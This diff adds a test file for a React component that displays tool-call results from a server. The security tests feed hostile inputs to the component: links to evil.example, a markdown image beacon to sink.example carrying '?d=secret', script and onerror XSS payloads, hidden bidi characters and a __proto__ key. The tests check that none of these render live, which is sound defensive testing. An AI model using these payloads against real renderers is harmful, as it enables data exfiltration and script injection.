@@ -1,0 +1,216 @@
+import { screen, waitFor, within } from "@testing-library/react";
+import { describe, expect, it } from "vitest";
+import type { Block, CallResult, CallView, JsonValue } from "../bindings/host";
+import type { Command } from "../platform";
+import { call, foreign } from "../platform/memory/make";
+import { expectAxeClean } from "../test/axe";
+import { show } from "../test/show";
+import { jsonRows } from "./JsonTreeRows";
+import { ResultView } from "./ResultView";
+import { addLines, ROW } from "./ResultViewLines";
+import { withHeights } from "./VirtualListLayout";
+
+withHeights();
+
+function result(blocks: Block[], rest: Partial<CallResult> = {}): CallResult {
+  return {
+    blocks,
+    more_blocks: 0,
+    structured: null,
+    structured_whole: null,
+    matches_schema: null,
+    mismatch: [],
+    raw: { handle: "raw", bytes: 64 },
+    ...rest,
+  };
+}
+
+function text(words: string, hidden = 0): Block {
+  return { kind: "text", text: foreign(words, hidden), whole: null, bytes: words.length };
+}
+
+function offset(args: { offset: number }): number {
+  return args.offset;
+}
+
+function view(over: Partial<CallView> = {}): CallView {
+  return call({ id: "c", server: "srv-files", tool: "t", ...over });
+}
+
+describe("a result", () => {
+  it("shows every kind of block in a slot of the server", async () => {
+    const blocks: Block[] = [
+      text("plain words"),
+      { kind: "image", mime: "image/png", data: { handle: "i", bytes: 70 } },
+      { kind: "audio", mime: "audio/wav", data: { handle: "a", bytes: 70 } },
+      { kind: "link", uri: foreign("file:///a.md"), name: foreign("a.md"), description: null, mime: null },
+      {
+        kind: "resource",
+        uri: foreign("file:///b.csv"),
+        mime: foreign("text/csv"),
+        text: foreign("a,b"),
+        whole: null,
+        bytes: 3,
+      },
+      { kind: "unshown", reason: "Its bytes are not a picture.", json: foreign("{}") },
+    ];
+    await show(<ResultView call={view({ result: result(blocks, { more_blocks: 2 }) })} />);
+    expect(screen.getByText("plain words")).toBeVisible();
+    expect(await screen.findByRole("img")).toHaveAttribute("src", expect.stringMatching(/^data:image\//));
+    expect(await screen.findByLabelText("Sound 3 from the server")).toBeVisible();
+    expect(screen.getByText("Its bytes are not a picture.")).toBeVisible();
+    expect(screen.getByText(/2 more blocks/)).toBeVisible();
+    expect(screen.getAllByRole("figure")).toHaveLength(6);
+    await expectAxeClean();
+  });
+
+  it("s24_follows_no_address_and_makes_no_link", async () => {
+    const blocks: Block[] = [
+      {
+        kind: "link",
+        uri: foreign("https://evil.example/"),
+        name: foreign("x"),
+        description: null,
+        mime: null,
+      },
+      text(
+        "# Hi\n\n[click](https://evil.example/?d=1) <a href='https://evil.example'>raw</a>\n\n<https://evil.example/auto> www.evil.example",
+      ),
+    ];
+    const { container } = await show(<ResultView call={view({ result: result(blocks) })} />);
+    expect(container.querySelector("a")).toBeNull();
+    expect(screen.getByText("https://evil.example/?d=1")).toBeVisible();
+  });
+
+  it("s20_markdown_loads_no_picture_and_makes_no_markup", async () => {
+    const words =
+      "# Hi\n\n![p](https://sink.example/p?d=secret)\n\n<img src=x onerror=alert(1)><script>alert(1)</script>";
+    const { container } = await show(<ResultView call={view({ result: result([text(words)]) })} />);
+    expect(container.querySelector("img, script, iframe, style")).toBeNull();
+    expect(screen.getByText(/picture not loaded: p · sink.example/)).toBeVisible();
+    expect(screen.getByText(/<script>alert\(1\)<\/script>/)).toBeVisible();
+  });
+
+  it("s41_characters_hidden_as_entities_are_written_out_after_markdown_was_read", async () => {
+    const { container } = await show(
+      <ResultView
+        call={view({
+          result: result([text("# Hi\n\nsafe&#x202e;txt&#8203;end [a&#x2066;](https://x.example/&#x200b;)")]),
+        })}
+      />,
+    );
+    expect(container.textContent).toContain("⟨U+202E⟩txt⟨U+200B⟩end");
+    expect(container.textContent).not.toMatch(/[\u200b\u202e\u2066]/);
+  });
+
+  it("is plain first when it is not like Markdown, and can be switched when it is", async () => {
+    const { user } = await show(
+      <ResultView call={view({ result: result([text("- one\n- two **bold**")]) })} />,
+    );
+    expect(screen.getByText("bold").tagName).toBe("STRONG");
+    await user.click(screen.getByRole("button", { name: "Plain" }));
+    expect(screen.getByText(/- two \*\*bold\*\*/)).toBeVisible();
+  });
+
+  it("tells a tool that says it failed from a call that failed", async () => {
+    const { rerender, unmount } = await show(
+      <ResultView call={view({ state: "tool_error", result: result([text("no such file")]) })} />,
+    );
+    expect(screen.getByText(/The tool says it failed/)).toBeVisible();
+    expect(screen.getByText("no such file")).toBeVisible();
+    expect(screen.queryByRole("alert")).toBeNull();
+    void rerender;
+    unmount();
+    await show(
+      <ResultView
+        call={view({
+          state: "failed",
+          problem: { code: "call.timeout", sentence: "“Files” gave no answer.", remedy: "Try again." },
+        })}
+      />,
+    );
+    expect(screen.getByRole("alert")).toHaveTextContent("“Files” gave no answer.");
+    expect(screen.queryByText(/The tool says/)).toBeNull();
+  });
+
+  it("says whether structured content matches its schema, and what does not", async () => {
+    const { user } = await show(
+      <ResultView
+        call={view({
+          result: result([text("x")], {
+            structured: { files: ["a"] },
+            matches_schema: false,
+            mismatch: [{ path: "/files", message: "has too few" }],
+          }),
+        })}
+      />,
+    );
+    expect(screen.getByText("does not match its output schema")).toBeVisible();
+    await user.click(screen.getByRole("tab", { name: "Structured" }));
+    expect(screen.getByText(/has too few/)).toBeVisible();
+    const tree = screen.getByRole("tree", { name: "Structured content" });
+    expect(await within(tree).findByText("files")).toBeVisible();
+    await expectAxeClean();
+  });
+
+  it("10 MB of text arrive in pieces, stay virtual and end", async () => {
+    const chunk = `${"x".repeat(62)}\n`.repeat(4096);
+    const bytes = chunk.length * 40;
+    const block: Block = {
+      kind: "text",
+      text: foreign("the beginning"),
+      whole: { handle: "big", bytes },
+      bytes,
+    };
+    const { user, twin, container } = await show(<ResultView call={view({ result: result([block]) })} />);
+    const ask = twin.call.bind(twin);
+    twin.call = (async (name: Command, args: never) =>
+      name === "read_payload"
+        ? {
+            text: chunk,
+            next: offset(args) + chunk.length < bytes ? offset(args) + chunk.length : null,
+            bytes,
+          }
+        : ask(name, args)) as typeof twin.call;
+    await user.click(screen.getByRole("button", { name: "Show the whole, 9.8 MB" }));
+    await waitFor(() => expect(screen.getByText("9.8 MB, 163,841 lines")).toBeVisible(), { timeout: 10_000 });
+    expect(container.querySelectorAll("*").length).toBeLessThan(400);
+  });
+});
+
+describe("lines", () => {
+  it("join across pieces, and one without end is broken", () => {
+    const lines: string[] = [];
+    addLines(lines, "a\nb");
+    addLines(lines, "c\r\nd");
+    expect(lines).toEqual(["a", "bc", "d"]);
+    const long: string[] = [];
+    addLines(long, "x".repeat(ROW * 3 + 5));
+    expect(long.map((line) => line.length)).toEqual([ROW, ROW, ROW, 5]);
+    const pair: string[] = [];
+    addLines(pair, `${"x".repeat(ROW - 1)}😀y`);
+    expect(pair.join("")).toBe(`${"x".repeat(ROW - 1)}😀y`);
+    expect(pair.every((line) => !/[\ud800-\udbff]$/.test(line))).toBe(true);
+  });
+});
+
+describe("the tree", () => {
+  it("of a value 50,000 levels deep is made without recursion", () => {
+    let deep: JsonValue = "end";
+    for (let level = 0; level < 50_000; level += 1) deep = [deep];
+    expect(jsonRows(deep, () => true)).toHaveLength(50_001);
+  });
+
+  it("opens and closes by key, and keeps a name called __proto__ apart", async () => {
+    const value = JSON.parse('{"__proto__":{"a":1},"b":[1,2,3]}') as JsonValue;
+    const { user } = await show(<ResultView call={view({ result: result([], { structured: value }) })} />);
+    const tree = await screen.findByRole("tree");
+    expect(await within(tree).findByText("__proto__")).toBeVisible();
+    tree.focus();
+    const before = within(tree).getAllByRole("treeitem").length;
+    await user.keyboard("{ArrowDown}{ArrowLeft}");
+    expect(within(tree).getAllByRole("treeitem")).toHaveLength(before - 1);
+    await user.keyboard("{ArrowRight}");
+    expect(within(tree).getAllByRole("treeitem")).toHaveLength(before);
+  });
+});
